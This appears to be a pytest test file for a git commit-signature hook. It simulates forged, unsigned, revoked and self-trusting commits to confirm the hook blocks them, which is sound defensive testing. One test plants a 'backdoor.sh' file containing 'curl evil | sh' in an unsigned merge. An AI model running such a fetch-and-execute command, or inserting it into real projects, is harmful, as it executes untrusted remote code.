"""check-signatures: real SSH and OpenPGP keys made here, real repositories.

The quick loop (`-m 'not slow'`) keeps each verdict's block and pass at every stage;
variants of a verdict already covered are marked slow."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from hooks import signatures
from hooks.config import SignaturesConfig
from hooks.git import Repo
from hooks.signatures.range import check_range
from hooks.signatures.trust import load_trust
from tests.conftest import git
from tests.conftest import git_commit
from tests.conftest import write

HOOK = 'check-signatures'
SETUP = 'the next commit will not pass check-signatures: '


# --- keys, made once per session ------------------------------------------------


def _gpg(home: Path, *args: str, stdin: bytes | None = None) -> bytes:
    env = {**os.environ, 'GNUPGHOME': str(home)}
    proc = subprocess.run(
        ('gpg', '--batch', '--no-tty', *args),
        input=stdin,
        env=env,
        capture_output=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stderr.decode()
    return proc.stdout


def _fpr(home: Path, email: str) -> str:
    out = _gpg(home, '--with-colons', '--list-keys', f'<{email}>').decode()
    return next(line.split(':')[9] for line in out.splitlines() if line.startswith('fpr'))


class Keys:
    def __init__(self, root: Path) -> None:
        self.root = root
        for name in ('alice', 'bob'):
            subprocess.run(
                ('ssh-keygen', '-q', '-t', 'ed25519', '-N', '', '-C', name, '-f', str(root / name)),
                check=True,
            )
        self.gnupg = root / 'gnupg'
        self.gnupg.mkdir(mode=0o700)
        three_days_ago = str(int(time.time()) - 3 * 86400)
        # %no-protection keys; alice's is backdated so an expiry can be set in the past.
        _gpg(
            self.gnupg,
            '--passphrase',
            '',
            '--faked-system-time',
            three_days_ago,
            '--quick-gen-key',
            'Alice Example <alice@example.com>',
            'ed25519',
            'sign',
            'never',
        )
        _gpg(
            self.gnupg,
            '--passphrase',
            '',
            '--quick-gen-key',
            'Eve <eve@example.com>',
            'ed25519',
            'sign',
            'never',
        )
        self.alice_fpr = _fpr(self.gnupg, 'alice@example.com')
        self.eve_fpr = _fpr(self.gnupg, 'eve@example.com')
        self.alice_asc = _gpg(self.gnupg, '--armor', '--export', self.alice_fpr)
        self.eve_asc = _gpg(self.gnupg, '--armor', '--export', self.eve_fpr)
        rev = (self.gnupg / 'openpgp-revocs.d' / f'{self.alice_fpr}.rev').read_bytes()
        self.alice_rev = rev
        # The same key with an expiry in the past, set in a copy of the keyring (the
        # original stays usable for signing).
        expired_home = root / 'gnupg-expired'
        shutil.copytree(self.gnupg, expired_home, ignore=shutil.ignore_patterns('S.*'))
        two_days_ago = str(int(time.time()) - 2 * 86400)
        _gpg(
            expired_home,
            '--passphrase',
            '',
            '--pinentry-mode',
            'loopback',
            '--faked-system-time',
            two_days_ago,
            '--quick-set-expire',
            self.alice_fpr,
            '1d',
        )
        self.alice_expired_asc = _gpg(expired_home, '--armor', '--export', self.alice_fpr)
        subprocess.run(
            ('gpgconf', '--kill', 'all'),
            env={**os.environ, 'GNUPGHOME': str(expired_home)},
            capture_output=True,
            check=False,
        )

    def pub(self, name: str) -> str:
        return (self.root / f'{name}.pub').read_text().strip()

    def signer_line(self, email: str, name: str, options: str = 'namespaces="git"') -> str:
        return f'{email} {options} {" ".join(self.pub(name).split()[:2])}\n'


@pytest.fixture(scope='session')
def keys(tmp_path_factory: pytest.TempPathFactory) -> Keys:
    k = Keys(tmp_path_factory.mktemp('keys'))
    yield k
    subprocess.run(
        ('gpgconf', '--kill', 'all'),
        env={**os.environ, 'GNUPGHOME': str(k.gnupg)},
        capture_output=True,
        check=False,
    )


# --- helpers ---------------------------------------------------------------------------


def policy(repo: Path, body: str) -> None:
    write(repo / '.commit-warden.yaml', f'version: 1\nsignatures:\n{body}')


def use_ssh(repo: Path, keys: Keys, name: str = 'alice') -> None:
    git('config', 'gpg.format', 'ssh', cwd=repo)
    git('config', 'user.signingkey', str(keys.root / f'{name}.pub'), cwd=repo)


def use_pgp(repo: Path, keys: Keys, fpr: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv('GNUPGHOME', str(keys.gnupg))
    git('config', 'gpg.format', 'openpgp', cwd=repo)
    git('config', 'user.signingkey', fpr, cwd=repo)


def ssh_repo(repo: Path, keys: Keys, signers: str, extra: str = '') -> str:
    """A policy trusting `signers`, committed unsigned as the base; returns its id."""
    write(repo / '.allowed_signers', signers)
    policy(repo, f'  allowed_signers: .allowed_signers\n{extra}')
    git('add', '-A', cwd=repo)
    base = git_commit(repo, 'policy')
    use_ssh(repo, keys)
    return base


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = signatures.main(list(args))
    out, err = capsys.readouterr()
    return code, out + err


def commit_line(sha: str, subject: str) -> str:
    return f'(commit {sha[:12]}) {sha[:12]} "{subject}"'


# --- range mode: SSH ---------------------------------------------------------------------


def test_good_ssh_signature_passes(repo, keys, capsys):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    git_commit(repo, 'signed', '-S', sign=True)
    assert run(capsys, '--from', base, '--to', 'HEAD') == (0, '')


def test_unsigned_commit_is_blocked(repo, keys, capsys):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    sha = git_commit(repo, 'not signed')
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    lines = out.splitlines()
    assert lines[0] == f'{commit_line(sha, "not signed")}: the commit is not signed [unsigned]'
    assert lines[-1] == 'note: fix: `git commit --amend --no-edit -S`, then push again'


def test_unknown_ssh_key_is_blocked(repo, keys, capsys):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    git(
        '-c',
        f'user.signingkey={keys.root / "bob.pub"}',
        'commit',
        '-q',
        '--allow-empty',
        '--no-verify',
        '-S',
        '-m',
        'bob key',
        cwd=repo,
    )
    sha = git('rev-parse', 'HEAD', cwd=repo).stdout.strip()
    fpr = subprocess.run(
        ('ssh-keygen', '-lf', str(keys.root / 'bob.pub')),
        check=True,
        capture_output=True,
        text=True,
    ).stdout.split()[1]
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0] == (
        f'{commit_line(sha, "bob key")}: signed with SSH key {fpr}, which is not trusted in '
        'the allowed signers in the working tree (.allowed_signers) [unknown-key]'
    )


def test_valid_signature_by_someone_else_is_a_signer_mismatch(repo, keys, capsys, monkeypatch):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    # git itself reports G here, and `git verify-commit` exits 0.
    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'bob@evil.example')
    sha = git_commit(repo, 'pretending', '-S', sign=True)
    assert (
        git(
            '-c',
            f'gpg.ssh.allowedSignersFile={repo / ".allowed_signers"}',
            'verify-commit',
            sha,
            cwd=repo,
            check=False,
        ).returncode
        == 0
    )
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    first = out.splitlines()[0]
    assert first.startswith(
        f'{commit_line(sha, "pretending")}: signed by alice@example.com (SSH key SHA256:'
    )
    assert first.endswith('), but committed by bob@evil.example [signer-mismatch]')


def test_ssh_key_outside_its_validity_is_expired(repo, keys, capsys):
    base = ssh_repo(
        repo,
        keys,
        keys.signer_line('alice@example.com', 'alice', 'namespaces="git",valid-before="20200101Z"'),
    )
    sha = git_commit(repo, 'late', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    first = out.splitlines()[0]
    assert first.startswith(f'{commit_line(sha, "late")}: signed with SSH key SHA256:')
    assert 'allows the key only from - to 2020-01-01 00:00 UTC) [expired]' in first


@pytest.mark.slow
def test_ssh_key_inside_its_validity_passes(repo, keys, capsys):
    base = ssh_repo(
        repo,
        keys,
        keys.signer_line(
            'alice@example.com',
            'alice',
            'namespaces="git",valid-after="20200101",valid-before="29990101"',
        ),
    )
    git_commit(repo, 'in time', '-S', sign=True)
    assert run(capsys, '--from', base, '--to', 'HEAD') == (0, '')


def test_revoked_ssh_key_is_blocked(repo, keys, capsys):
    write(repo / '.revoked_signers', keys.pub('alice') + '\n')
    base = ssh_repo(
        repo,
        keys,
        keys.signer_line('alice@example.com', 'alice'),
        '  revoked_signers: .revoked_signers\n',
    )
    sha = git_commit(repo, 'revoked', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    first = out.splitlines()[0]
    assert first.startswith(f'{commit_line(sha, "revoked")}: signed with a revoked SSH key')
    assert first.endswith('(the key is listed in .revoked_signers in the working tree) [revoked]')


@pytest.mark.slow
def test_tampered_signature_is_bad(repo, keys, capsys):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    sha = git_commit(repo, 'original', '-S', sign=True)
    raw = git('cat-file', 'commit', sha, cwd=repo).stdout.replace('original', 'tampered')
    forged = git(
        'hash-object', '-w', '-t', 'commit', '--stdin', cwd=repo, input=raw.encode()
    ).stdout.strip()
    git('update-ref', 'refs/heads/main', forged, cwd=repo)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0].startswith(
        f'{commit_line(forged, "tampered")}: the SSH signature does not verify'
    )
    assert out.splitlines()[0].endswith('[bad-signature]')


def test_missing_signoff_is_blocked_and_signoff_passes(repo, keys, capsys):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'), '  require: both\n')
    sha = git_commit(repo, 'no sign-off', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0] == (
        f'{commit_line(sha, "no sign-off")}: no Signed-off-by: Alice Example '
        '<alice@example.com> [missing-signoff]'
    )
    assert (
        out.splitlines()[-1] == 'note: fix: `git commit --amend --no-edit -S -s`, then push again'
    )
    git(
        'commit', '-q', '--amend', '--allow-empty', '--no-edit', '--no-verify', '-S', '-s', cwd=repo
    )
    assert run(capsys, '--from', base, '--to', 'HEAD') == (0, '')


def test_unsigned_and_not_signed_off_gives_both_findings(repo, keys, capsys):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'), '  require: both\n')
    sha = git_commit(repo, 'neither')
    code, out = run(capsys, '--from', base, '--to', 'HEAD', '--format', 'json')
    assert code == 1
    import json

    rules = [(f['commit'], f['rule']) for f in json.loads(out)['findings']]
    assert rules == [(sha, 'unsigned'), (sha, 'missing-signoff')]


@pytest.mark.parametrize(
    ('message', 'ok'),
    [
        ('fix\n\nSigned-off-by: Alice Example <alice@example.com>\n', True),
        (
            'fix\n\nbody\n\nReviewed-by: B <b@example.com>\n'
            'Signed-off-by: Alice Example <alice@example.com>\n',
            True,
        ),
        ('Signed-off-by: Alice Example <alice@example.com>\n', False),
        ('fix\n\nSigned-off-by: Alice Example <alice@example.com>\nbut this is prose\n', False),
        ('fix\n\nSigned-off-by: Alice Example <alice@example.com>\n\nmore body\n', False),
    ],
)
def test_a_signoff_counts_only_in_the_trailer_block(message, ok):
    from hooks.signatures.signoff import signoff_matches

    assert signoff_matches(message, 'Alice Example', 'alice@example.com')[0] is ok


def test_signoff_only_policy_needs_no_signature(repo, capsys):
    policy(repo, '  require: signoff\n')
    git('add', '-A', cwd=repo)
    base = git_commit(repo, 'policy')
    git_commit(repo, 'unsigned but signed off', '-s')
    assert run(capsys, '--from', base, '--to', 'HEAD') == (0, '')
    sha = git_commit(repo, 'signed off by someone else\n\nSigned-off-by: Bob <bob@example.com>')
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0] == (
        f'{commit_line(sha, "signed off by someone else")}: no Signed-off-by: Alice Example '
        '<alice@example.com> (found: Bob <bob@example.com>) [missing-signoff]'
    )


@pytest.mark.slow
def test_pr_that_adds_its_own_key_is_blocked_under_policy_ref(repo, keys, capsys, monkeypatch):
    ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    git('checkout', '-q', '-b', 'feature', cwd=repo)
    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'bob@example.com')
    monkeypatch.setenv('GIT_AUTHOR_EMAIL', 'bob@example.com')
    with open(repo / '.allowed_signers', 'a') as f:
        f.write(keys.signer_line('bob@example.com', 'bob'))
    git('add', '.allowed_signers', cwd=repo)
    sha = git_commit(repo, 'trust me', '-S', f'--gpg-sign={keys.root / "bob.pub"}', sign=True)
    # Judged by the branch's own files it would pass: that is the attack.
    assert run(capsys, '--from', 'main', '--to', 'HEAD') == (0, '')
    code, out = run(capsys, '--policy-ref', 'main', '--from', 'main', '--to', 'HEAD')
    assert code == 1
    lines = out.splitlines()
    assert lines[0].startswith(f'{commit_line(sha, "trust me")}: signed with SSH key SHA256:')
    assert lines[0].endswith(
        'which is not trusted in the allowed signers at main (.allowed_signers) [unknown-key]'
    )
    assert lines[1] == (
        '    the range adds this key to .allowed_signers, but trust is read at '
        'main: a change cannot vouch for its own signer; get the key added in '
        'a separate, reviewed change first'
    )


# --- range mode: OpenPGP -------------------------------------------------------------


def pgp_repo(
    repo: Path, keys: Keys, monkeypatch: pytest.MonkeyPatch, *trusted: bytes, extra: str = ''
) -> str:
    for i, data in enumerate(trusted):
        write(repo / '.gpg-keys' / f'{i}.asc', data)
    policy(repo, f'  openpgp_keys: .gpg-keys\n{extra}')
    git('add', '-A', cwd=repo)
    base = git_commit(repo, 'policy')
    use_pgp(repo, keys, keys.alice_fpr, monkeypatch)
    return base


def test_good_openpgp_signature_passes(repo, keys, capsys, monkeypatch):
    base = pgp_repo(
        repo,
        keys,
        monkeypatch,
        keys.alice_asc,
        extra=f'  openpgp_fingerprints: [{keys.alice_fpr}]\n',
    )
    git_commit(repo, 'pgp', '-S', sign=True)
    assert run(capsys, '--from', base, '--to', 'HEAD') == (0, '')


def test_openpgp_key_not_in_the_policy_is_unknown(repo, keys, capsys, monkeypatch):
    # The user's own keyring has (and ultimately trusts) alice's key: it must not count.
    base = pgp_repo(repo, keys, monkeypatch, keys.eve_asc)
    sha = git_commit(repo, 'pgp', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0] == (
        f'{commit_line(sha, "pgp")}: signed with OpenPGP key {keys.alice_fpr}, which is not '
        'trusted by the policy in the working tree [unknown-key]'
    )


@pytest.mark.slow
def test_openpgp_fingerprint_list_restricts_trusted_keys(repo, keys, capsys, monkeypatch):
    base = pgp_repo(
        repo, keys, monkeypatch, keys.alice_asc, extra=f'  openpgp_fingerprints: [{keys.eve_fpr}]\n'
    )
    git_commit(repo, 'pgp', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0].endswith(
        ': the key is not in signatures.openpgp_fingerprints [unknown-key]'
    )


@pytest.mark.slow
def test_openpgp_signer_mismatch(repo, keys, capsys, monkeypatch):
    base = pgp_repo(repo, keys, monkeypatch, keys.alice_asc, keys.eve_asc)
    git('config', 'user.signingkey', keys.eve_fpr, cwd=repo)
    sha = git_commit(repo, 'eve signs for alice', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0] == (
        f'{commit_line(sha, "eve signs for alice")}: signed by eve@example.com (OpenPGP key '
        f'{keys.eve_fpr}), but committed by alice@example.com [signer-mismatch]'
    )


@pytest.mark.slow
def test_expired_openpgp_key_is_blocked(repo, keys, capsys, monkeypatch):
    base = pgp_repo(repo, keys, monkeypatch, keys.alice_expired_asc)
    sha = git_commit(repo, 'pgp', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0] == (
        f'{commit_line(sha, "pgp")}: signed with OpenPGP key {keys.alice_fpr} outside its '
        'validity (the key has expired) [expired]'
    )


def test_revoked_openpgp_key_is_blocked(repo, keys, capsys, monkeypatch):
    base = pgp_repo(repo, keys, monkeypatch, keys.alice_asc, keys.alice_rev)
    sha = git_commit(repo, 'pgp', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0] == (
        f'{commit_line(sha, "pgp")}: signed with a revoked OpenPGP key {keys.alice_fpr} [revoked]'
    )
    # The user's keyring was not touched: the key is not revoked there.
    listing = _gpg(keys.gnupg, '--with-colons', '--list-keys', keys.alice_fpr).decode()
    assert listing.startswith('tru:') or 'pub:u:' in listing


@pytest.mark.slow
def test_revocation_listed_before_its_key_still_counts(repo, keys, capsys, monkeypatch):
    # gpg names a revocation <FINGERPRINT>.rev, which may sort before the key file.
    base = pgp_repo(repo, keys, monkeypatch, keys.alice_rev, keys.alice_asc)
    git_commit(repo, 'pgp', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert '[revoked]' in out


@pytest.mark.slow
def test_x509_signature_is_reported_as_unsupported(repo, keys, capsys):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    tree = git('rev-parse', 'HEAD^{tree}', cwd=repo).stdout.strip()
    raw = (
        f'tree {tree}\nparent {base}\n'
        'author Alice Example <alice@example.com> 1700000000 +0000\n'
        'committer Alice Example <alice@example.com> 1700000000 +0000\n'
        'gpgsig -----BEGIN SIGNED MESSAGE-----\n MIAGCSqGSIb3DQEHAqCAMIACAQEx\n'
        ' -----END SIGNED MESSAGE-----\n\nx509 signed\n'
    )
    sha = git(
        'hash-object', '-w', '-t', 'commit', '--stdin', cwd=repo, input=raw.encode()
    ).stdout.strip()
    git('update-ref', 'refs/heads/main', sha, cwd=repo)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.splitlines()[0] == (
        f'{commit_line(sha, "x509 signed")}: signed with X.509 (gpgsm/gitsign), which this '
        'policy does not support; sign with SSH or OpenPGP instead [unsupported-signature]'
    )


# --- range mode: edge cases ----------------------------------------------------------


def _merge_setup(repo: Path, keys: Keys, extra: str, sign_side: bool) -> str:
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'), extra)
    git('checkout', '-q', '-b', 'side', cwd=repo)
    git_commit(repo, 'side work', *(('-S',) if sign_side else ()), sign=sign_side)
    git('checkout', '-q', 'main', cwd=repo)
    git_commit(repo, 'main work', '-S', sign=True)
    git(
        'merge',
        '-q',
        '--no-ff',
        '--no-verify',
        '--no-gpg-sign',
        '-m',
        'merge side',
        'side',
        cwd=repo,
    )
    return base


def test_unsigned_merge_allowed_when_parents_pass(repo, keys, capsys):
    base = _merge_setup(repo, keys, '  allow_unsigned_merges: true\n', sign_side=True)
    assert run(capsys, '--from', base, '--to', 'HEAD') == (0, '')


@pytest.mark.slow
def test_unsigned_merge_blocked_when_a_parent_fails(repo, keys, capsys):
    base = _merge_setup(repo, keys, '  allow_unsigned_merges: true\n', sign_side=False)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    merge = git('rev-parse', 'HEAD', cwd=repo).stdout.strip()
    side = git('rev-parse', 'side', cwd=repo).stdout.strip()
    assert f'{commit_line(side, "side work")}: the commit is not signed [unsigned]' in out
    assert (
        f'{commit_line(merge, "merge side")}: the commit is not signed (a merge may be '
        "unsigned only when its tree is git's own conflict-free merge of its parents, "
        'and all of its parents pass) [unsigned]'
    ) in out
    assert out.splitlines()[-1].startswith('note: fix: `git rebase --rebase-merges --exec')


@pytest.mark.slow
def test_unsigned_merge_blocked_by_default(repo, keys, capsys):
    base = _merge_setup(repo, keys, '', sign_side=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert out.count('[unsigned]') == 1


def test_exempt_before_skips_old_history(repo, keys, capsys):
    old = git_commit(repo, 'old unsigned')
    ssh_repo(
        repo, keys, keys.signer_line('alice@example.com', 'alice'), f'  exempt_before: {old}\n'
    )
    # The policy commit itself is unsigned, so it is blocked; `old` is not judged.
    code, out = run(capsys, '--to', 'HEAD')
    assert code == 1
    assert out.count('[unsigned]') == 1 and 'old unsigned' not in out
    assert 'note: 1 commit(s) at or before exempt_before' in out


def test_exempt_author_is_not_judged_and_says_why(repo, keys, capsys, monkeypatch):
    base = ssh_repo(
        repo,
        keys,
        keys.signer_line('alice@example.com', 'alice'),
        "  exempt_authors:\n  - email: '*[bot]@users.noreply.github.com'\n"
        '    reason: bot commits are reviewed in the PR\n',
    )
    monkeypatch.setenv('GIT_AUTHOR_EMAIL', 'dependabot[bot]@users.noreply.github.com')
    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'dependabot[bot]@users.noreply.github.com')
    sha = git_commit(repo, 'bump')
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 0
    assert out == (
        f'{commit_line(sha, "bump")}: not judged, author '
        'dependabot[bot]@users.noreply.github.com is exempt: bot commits are '
        'reviewed in the PR [exempt]\n'
    )


@pytest.mark.slow
def test_exempt_author_email_alone_does_not_exempt(repo, keys, capsys, monkeypatch):
    base = ssh_repo(
        repo,
        keys,
        keys.signer_line('alice@example.com', 'alice'),
        "  exempt_authors:\n  - email: 'release-bot@example.com'\n    reason: release bot\n",
    )
    monkeypatch.setenv('GIT_AUTHOR_EMAIL', 'release-bot@example.com')
    monkeypatch.setenv('GIT_COMMITTER_EMAIL', 'mallory@evil.example')
    git_commit(repo, 'innocent')
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert '[unsigned]' in out and '[exempt]' not in out


def test_unsigned_evil_merge_is_blocked_even_when_merges_may_be_unsigned(repo, keys, capsys):
    base = ssh_repo(
        repo,
        keys,
        keys.signer_line('alice@example.com', 'alice'),
        '  allow_unsigned_merges: true\n',
    )
    git('checkout', '-q', '-b', 'side', cwd=repo)
    git_commit(repo, 'side work', '-S', sign=True)
    git('checkout', '-q', 'main', cwd=repo)
    git_commit(repo, 'main work', '-S', sign=True)
    git('merge', '-q', '--no-ff', '--no-commit', 'side', cwd=repo)
    write(repo / 'backdoor.sh', 'curl evil | sh\n')
    git('add', 'backdoor.sh', cwd=repo)
    git('commit', '-q', '--no-verify', '--no-gpg-sign', '-m', 'merge side', cwd=repo)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    assert 'merge side' in out and '[unsigned]' in out


def test_empty_range_passes(repo, keys, capsys):
    ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    assert run(capsys, '--from', 'HEAD', '--to', 'HEAD') == (0, '')


def test_new_branch_push_checks_commits_no_remote_has(repo, remote, keys, capsys, monkeypatch):
    ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    git('push', '-q', '--no-verify', 'origin', 'main', cwd=repo)
    git('checkout', '-q', '-b', 'topic', cwd=repo)
    git_commit(repo, 'good', '-S', sign=True)
    sha = git_commit(repo, 'bad')
    # pre-commit on a first push: no FROM/TO, only PRE_COMMIT_REMOTE_*.
    monkeypatch.setenv('PRE_COMMIT_REMOTE_NAME', 'origin')
    monkeypatch.setenv('PRE_COMMIT_REMOTE_BRANCH', 'refs/heads/topic')
    monkeypatch.setenv('PRE_COMMIT_LOCAL_BRANCH', 'refs/heads/topic')
    code, out = run(capsys)
    assert code == 1
    assert out.splitlines()[0] == f'{commit_line(sha, "bad")}: the commit is not signed [unsigned]'
    assert out.count('[unsigned]') == 1  # the pushed policy commit is not re-judged
    # An all-zero FROM (a new branch) means the same.
    code, out2 = run(capsys, '--from', '0' * 40, '--to', 'topic')
    assert (code, out2) == (1, out)


def test_root_commit_is_judged(repo, keys, capsys):
    use_ssh(repo, keys)
    write(repo / '.allowed_signers', keys.signer_line('alice@example.com', 'alice'))
    policy(repo, '  allowed_signers: .allowed_signers\n')
    git('add', '-A', cwd=repo)
    git_commit(repo, 'root', '-S', sign=True)
    assert run(capsys, '--to', 'HEAD') == (0, '')


@pytest.mark.slow
def test_shallow_clone_past_its_boundary_is_an_error(repo, keys, tmp_path, capsys, monkeypatch):
    ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    for i in range(3):
        git_commit(repo, f'c{i}', '-S', sign=True)
    clone = tmp_path / 'shallow'
    git('clone', '-q', '--depth', '2', f'file://{repo}', str(clone), cwd=tmp_path)
    monkeypatch.chdir(clone)
    root = git('rev-list', '--max-parents=0', 'main', cwd=repo).stdout.strip()
    # The base commit is missing: never a silent pass.
    code, out = run(capsys, '--from', root, '--to', 'HEAD')
    assert code == 2
    assert (
        'does not name a commit in this shallow clone. Fetch the history: `git fetch --unshallow`'
    ) in out
    # The base is there, but the history between is cut off by the boundary.
    git('-c', 'protocol.version=2', 'fetch', '-q', '--depth', '1', 'origin', root, cwd=clone)
    code, out = run(capsys, '--from', root, '--to', 'HEAD')
    assert code == 2
    assert "the range reaches past this shallow clone's boundary" in out


@pytest.mark.slow
def test_non_utf8_message(repo, keys, capsys):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'), '  require: both\n')
    msg = b'caf\xe9 \xff\n\nSigned-off-by: Alice Example <alice@example.com>\n'
    write(repo / 'msg', msg)
    git('commit', '-q', '--allow-empty', '--no-verify', '-S', '-F', str(repo / 'msg'), cwd=repo)
    assert run(capsys, '--from', base, '--to', 'HEAD') == (0, '')
    write(repo / 'msg', b'\xff\xfe bad\n')
    sha = (
        git('commit', '-q', '--allow-empty', '--no-verify', '-S', '-F', str(repo / 'msg'), cwd=repo)
        and git('rev-parse', 'HEAD', cwd=repo).stdout.strip()
    )
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 1
    # git shows such bytes as Latin-1 (or U+FFFD); either way one readable line.
    first = out.splitlines()[0]
    assert first.startswith(f'(commit {sha[:12]}) {sha[:12]} "')
    assert first.endswith(
        ' bad": no Signed-off-by: Alice Example <alice@example.com> [missing-signoff]'
    )


@pytest.mark.slow
def test_verdicts_are_cached_and_a_corrupt_cache_is_rebuilt(repo, keys, capsys):
    base = ssh_repo(repo, keys, keys.signer_line('alice@example.com', 'alice'))
    for i in range(3):
        git_commit(repo, f'c{i}', '-S', sign=True)
    bad = git_commit(repo, 'unsigned')
    r = Repo.discover()
    config = SignaturesConfig(allowed_signers='.allowed_signers')
    trust = load_trust(r, config, None)
    first = check_range(r, policy=config, trust=trust, from_ref=base, to_ref='HEAD')
    assert (first.verified, len(first.findings)) == (4, 1)
    again = check_range(r, policy=config, trust=trust, from_ref=base, to_ref='HEAD')
    assert (again.verified, again.findings) == (0, first.findings)
    cache = r.state_dir / 'signatures-cache.json'
    assert bad in json.loads(cache.read_text())['data'][trust.digest]
    # A changed policy is a different cache key.
    other = load_trust(
        r, SignaturesConfig(allowed_signers='.allowed_signers', allow_unsigned_merges=True), None
    )
    assert other.digest != trust.digest
    cache.write_text(
        '{"version": 2, "key": "", "data": {"' + trust.digest + '": {"' + bad + '": ["", "forged"]}'
    )  # truncated, not JSON
    rebuilt = check_range(r, policy=config, trust=trust, from_ref=base, to_ref='HEAD')
    assert (rebuilt.verified, rebuilt.findings) == (4, first.findings)
    json.loads(cache.read_text())
    # A well-formed but forged entry that does not fit the schema is not trusted.
    data = json.loads(cache.read_text())
    data['data'][trust.digest][bad] = ['no-such-rule', 'ssh', '', '', '']
    cache.write_text(json.dumps(data))
    again = check_range(r, policy=config, trust=trust, from_ref=base, to_ref='HEAD')
    assert (again.verified, again.findings) == (1, first.findings)


def test_missing_allowed_signers_file_is_a_config_error(repo, capsys):
    policy(repo, '  allowed_signers: nope\n')
    git('add', '-A', cwd=repo)
    git_commit(repo, 'policy')
    code, out = run(capsys, '--to', 'HEAD')
    assert code == 2
    assert 'signatures.allowed_signers: nope does not exist in the working tree' in out


@pytest.mark.slow
def test_lines_ssh_keygen_rejects_are_policy_notes(repo, keys, capsys):
    # ssh-keygen, not a parser of ours, says which lines count (file:line, its reason).
    good = keys.signer_line('alice@example.com', 'alice')
    base = ssh_repo(
        repo,
        keys,
        '# comment\n'
        + good
        + 'c@x.example valid-before=2020 '
        + keys.pub('bob')
        + '\n'
        + 'garbage\n',
    )
    git_commit(repo, 'signed', '-S', sign=True)
    code, out = run(capsys, '--from', base, '--to', 'HEAD')
    assert code == 0
    assert out.splitlines() == [
        'note: .allowed_signers:3: ssh-keygen rejects this line (bad options: missing start '
        'quote), so it trusts nobody; option values must be quoted, e.g. '
        'valid-before="20270101"',
        'note: .allowed_signers:4: ssh-keygen rejects this line (missing key), so it trusts nobody',
    ]


# --- the pre-commit stage ------------------------------------------------------------------


def test_setup_without_signing_configured_prints_the_fix(repo, keys, capsys):
    write(repo / '.allowed_signers', keys.signer_line('alice@example.com', 'alice'))
    policy(repo, '  allowed_signers: .allowed_signers\n')
    code, out = run(capsys)
    assert code == 1
    # One message, every missing step, in order (no key exists yet: make one).
    assert out == (
        'the next commit will not pass check-signatures: gpg.format is not set, so git '
        'would sign with openpgp, but the policy trusts only SSH keys '
        '(signatures.allowed_signers); no SSH signing key is configured (user.signingkey, '
        'or gpg.ssh.defaultKeyCommand); commit.gpgsign is not true, so git will not sign '
        'the commit [signing-key]\n'
        '    fix: `commit-warden signing setup` does this; or run, in order:\n'
        '      ssh-keygen -t ed25519 -C alice@example.com -f ~/.ssh/id_ed25519\n'
        '      git config gpg.format ssh\n'
        '      git config user.signingkey ~/.ssh/id_ed25519.pub\n'
        '      git config commit.gpgsign true\n'
        '    then `commit-warden signing status` prints the allowed_signers line a '
        'maintainer must add for your key\n'
        '    (hooks cannot see `git commit -S`: if you sign that way, set commit.gpgsign '
        'anyway)\n'
    )


def test_setup_with_an_allowed_ssh_key_passes(repo, keys, capsys, monkeypatch):
    write(repo / '.allowed_signers', keys.signer_line('alice@example.com', 'alice'))
    policy(repo, '  allowed_signers: .allowed_signers\n')
    use_ssh(repo, keys)
    git('config', 'commit.gpgsign', 'true', cwd=repo)
    assert run(capsys) == (0, '')
    # The private key file works too (its public half is read from it).
    git('config', 'user.signingkey', str(keys.root / 'alice'), cwd=repo)
